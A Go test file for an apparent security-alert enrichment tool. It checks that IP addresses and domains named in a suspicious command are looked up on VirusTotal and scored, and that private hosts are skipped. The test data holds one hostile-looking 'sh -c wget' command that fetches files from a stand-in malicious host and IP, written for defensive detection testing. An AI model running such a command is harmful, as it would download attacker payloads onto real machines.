package main

import (
	"encoding/json"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/scc-enricher/scc-enricher/pkg/emulator"
)

// TestIndicatorLookups: with VT_LOOKUPS=files,indicators an address that a
// command names is looked up, told in marks and record, and weighs; private
// and own hosts are not asked about, and without the setting nothing but files.
func TestIndicatorLookups(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, lookups string
		want          []string
		vt, reason    string
	}{
		{"files", "files", []string{"/api/v3/files/" + testHash}, "not_found", ""},
		{"indicators", "files,indicators", []string{
			"/api/v3/domains/dl.evil-pool.org", "/api/v3/files/" + testHash, "/api/v3/ip_addresses/45.9.148.1", "/api/v3/urls/", "/api/v3/urls/",
		}, "malicious 14/94 ip 45[.]9[.]148[.]1, 1 more suspicious", "vt_indicator(+25)"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			reputation := func(collection, id, stats string) {
				if err := w.SetReputation(collection, id, json.RawMessage(`{"last_analysis_stats":`+stats+`}`)); err != nil {
					t.Fatal(err)
				}
			}
			reputation("ip_addresses", "45.9.148.1", `{"malicious":14,"suspicious":1,"undetected":27,"harmless":52}`)
			reputation("domains", "dl.evil-pool.org", `{"malicious":1,"suspicious":1,"undetected":27,"harmless":52}`)
			r := newRig(t, rigOptions{emulator: emulator.Options{World: w, Quotas: emulator.Quotas{VTPerMinute: 100}}, flags: []string{"--vt-lookups=" + tt.lookups, "--vt-requests-per-minute=100"}})
			f := newFinding("indicators")
			f.Processes[0].Args = []string{`"sh"`, `"-c"`, `"wget -q http://45.9.148.1/x86 http://dl.evil-pool.org/y http://10.0.0.7/z https://storage.googleapis.com/b/o http://169.254.169.254/ http://192.0.2.4/"`}
			name, notification := r.add(f)
			if status := r.deliver(notification); status != 204 {
				t.Fatalf("status %d: %s", status, r.log.lastLine())
			}
			var got []string
			for _, c := range r.emu.Calls() {
				if strings.HasPrefix(c.Method, "virustotal/") {
					path := c.Path
					if strings.HasPrefix(path, "/api/v3/urls/") {
						path = "/api/v3/urls/"
					}
					got = append(got, path)
				}
			}
			slices.Sort(got)
			if !slices.Equal(got, tt.want) {
				t.Errorf("asked VirusTotal for %q, want %q", got, tt.want)
			}
			marks := w.Marks(name)
			if marks["enrich_vt"] != tt.vt || tt.reason != "" && !strings.Contains(marks["enrich_reasons"], tt.reason) {
				t.Errorf("marks %v", slices.Collect(maps.Values(marks)))
			}
			rec := checkRecord(t, r.records.get()[0])
			if len(rec.Reputations) != len(tt.want) || rec.Source("virustotal").State == "partial" {
				t.Errorf("the record has %+v, VirusTotal is %+v", rec.Reputations, rec.Source("virustotal"))
			}
		})
	}
}
